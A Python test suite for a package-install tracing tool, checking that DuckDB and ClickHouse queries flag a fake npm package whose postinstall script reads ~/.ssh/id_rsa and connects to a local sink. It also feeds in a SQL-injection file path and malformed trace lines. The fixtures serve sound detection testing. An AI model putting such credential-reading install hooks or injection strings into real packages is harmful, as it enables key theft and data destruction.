"""The SQL of docs/sql, run on traces of real runs: by DuckDB, and by ClickHouse's own engine."""

import glob
import json
import os
import shutil
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "managers"))

import fetched  # noqa: E402
from made_trace import MadeTrace  # noqa: E402
from npm_case import NpmCase  # noqa: E402
from sinks import TcpSink, http_reply  # noqa: E402
from trace_file import newest_trace  # noqa: E402
from world import read_text  # noqa: E402

SQL = os.path.join(HERE, "..", "..", "docs", "sql")
QUERIES = sorted(os.path.basename(path)[:-4] for path in glob.glob(SQL + "/duckdb/*.sql")
                 if not path.endswith("schema.sql"))
CLEAN_JS = "require('fs').writeFileSync('built.txt', 'built')\n"
THIEF_JS = CLEAN_JS + r"""
try { require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa'); } catch (error) {}
require('net').connect(%d, '127.0.0.1').on('error', () => {});
"""

# argv: folder of the SQL, file with what to load (one path a line). Prints {query: rows}.
DUCKDB = r"""
import glob, json, os, sys
import duckdb
sql, traces = sys.argv[1:]
connection = duckdb.connect()
connection.execute(open(sql + "/schema.sql").read())
for _ in range(2):  # what was loaded is not loaded again
    for path in open(traces).read().split():
        connection.execute("INSERT OR IGNORE INTO events BY NAME "
                           "SELECT * FROM read_traces('%s')" % path)
found = {"": connection.execute("SELECT count(*) FROM events").fetchone()[0]}
for path in glob.glob(sql + "/*.sql"):
    name = os.path.basename(path)[:-4]
    if name != "schema":
        result = connection.execute(open(path).read())
        names = [column[0] for column in result.description]
        found[name] = [dict(zip(names, row)) for row in result.fetchall()]
print(json.dumps(found, default=str))
"""
CLICKHOUSE = r"""
import glob, json, os, sys
from chdb import session
sql, traces = sys.argv[1:]
base = session.Session()
for statement in open(sql + "/schema.sql").read().split(";\n"):
    if statement.strip():
        base.query(statement)
for _ in range(2):
    for path in open(traces).read().split():
        base.query("INSERT INTO safe_trace.lines SELECT line FROM file('%s', 'LineAsString')" % path)
def rows(query):
    return json.loads(str(base.query(query, "JSON")))["data"]
found = {"": int(rows("SELECT count() AS n FROM safe_trace.events FINAL")[0]["n"])}
for path in glob.glob(sql + "/*.sql"):
    name = os.path.basename(path)[:-4]
    if name != "schema":
        found[name] = rows(open(path).read().rstrip().rstrip(";"))
print(json.dumps(found))
"""


class TraceStores(NpmCase):
    with_headers = False

    def setUp(self):
        self.sink = TcpSink(reply=http_reply("thanks"))
        self.addCleanup(self.sink.close)
        super().setUp()
        self.stores = os.path.join(self.index.root, "stores")
        os.mkdir(self.stores)

    def fill_registry(self, registry):
        post = {"postinstall": "node post.js"}
        registry.add("st-tiny", "1.0.0", files={"post.js": CLEAN_JS}, scripts=post)
        registry.add("st-tiny", "1.0.2", files={"post.js": THIEF_JS % self.sink.port}, scripts=post)

    def traces(self):
        """The paths of the traces of an honest install, and then of one that steals."""
        paths = []
        for version, status in (("1.0.0", 0), ("1.0.2", 120)):
            world, _ = self.manage([self.npm, *self.install], True, status=status,
                                   prepare=lambda world: self.project(world, {"st-tiny": version}))
            path = os.path.join(self.stores, version + ".jsonl")
            shutil.copy(newest_trace(world.state).path, path)
            paths.append(path)
        return paths

    def ask(self, engine, requirement, program, paths):
        python = fetched.python_with(os.path.join(self.stores, engine), requirement)
        names = os.path.join(self.stores, "names")
        with open(names, "w", encoding="utf-8") as file:
            file.write("\n".join(paths))
        done = subprocess.run([python, "-c", program, os.path.join(SQL, engine), names],
                              timeout=300, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.assertEqual(0, done.returncode, done.stderr.decode()[-3000:])
        return json.loads(done.stdout)

    def hold(self, found, paths):
        """What the two runs must give."""
        lines = sum(read_text(path).count("\n") for path in paths)
        self.assertEqual(lines, found[""], "each line once")
        self.assertEqual([120, 0], [int(row["exit_status"]) for row in found["runs"]])
        self.assertIn("install", found["runs"][0]["command"])
        wanted = {(row["package_name"], row["package_version"], os.path.basename(row["file_path"]),
                   row["decision"]) for row in found["who_wanted_my_key"] if row["package_name"]}
        self.assertEqual({("st-tiny", "1.0.2", "id_rsa", "hide")}, wanted)
        tiny, = [row for row in found["what_went_where"] if row["who"] == "st-tiny"]
        self.assertEqual(("127.0.0.1", self.sink.port), (tiny["host"], int(tiny["port"])))
        self.assertGreaterEqual(int(tiny["refused"]), 1)
        self.assertEqual(0, int(tiny["connections"]))
        manager = [row for row in found["what_went_where"] if row["who"] == "manager"]
        self.assertGreaterEqual(sum(int(row["connections"]) for row in manager), 1)
        week, = found["violations_last_7_days"]
        self.assertEqual(("npm", "st-tiny", "1.0.2"), (
            week["ecosystem"], week["package_name"], week["package_version"]))
        self.assertIn("credential.ssh", week["rules"])
        ran = {(row["package_version"], os.path.basename(row["executable"]))
               for row in found["what_ran"] if row["package_name"] == "st-tiny"}
        self.assertLessEqual({("1.0.0", "node"), ("1.0.2", "node")}, ran)
        self.assertEqual([("st-tiny", "127.0.0.1")],
                         [(row["package_name"], row["host"]) for row in found["new_hosts"]])
        self.assertEqual(set(QUERIES) | {""}, set(found))

    def test_duckdb_answers_the_questions_of_the_documents(self):
        paths = self.traces()
        self.hold(self.ask("duckdb", "duckdb==2.0.0", DUCKDB, paths), paths)

    def test_clickhouse_answers_the_same(self):
        paths = self.traces()
        self.hold(self.ask("clickhouse", "chdb-core==26.9.0", CLICKHOUSE, paths), paths)

    def test_hostile_lines_do_not_stop_the_loading(self):
        path = os.path.join(self.stores, "hostile.jsonl")
        with MadeTrace(path) as trace:
            trace.refused("file-open", "credential.ssh", **{"file.path": "/'; DROP TABLE events;--"})
            trace.raw(b"\xff\xfe no json")
            trace.raw(b'{"event.sequence":"many","safe_trace.run_id":[1],"@timestamp":"never"}')
            trace.raw(b'{"a":' * 10_000)
            trace.refused("file-open", "credential.ssh", **{"file.path": "/" + "x" * 60_000})
        for engine, requirement, program in (("duckdb", "duckdb==2.0.0", DUCKDB),
                                             ("clickhouse", "chdb-core==26.9.0", CLICKHOUSE)):
            found = self.ask(engine, requirement, program, [path])
            self.assertEqual(2, len(found["who_wanted_my_key"]), found)
            self.assertEqual(1, len(found["runs"]))

    def test_both_stores_have_the_same_queries(self):
        for engine in ("duckdb", "clickhouse"):
            names = sorted(os.listdir(os.path.join(SQL, engine)))
            self.assertEqual([name + ".sql" for name in sorted(QUERIES + ["schema"])], names)
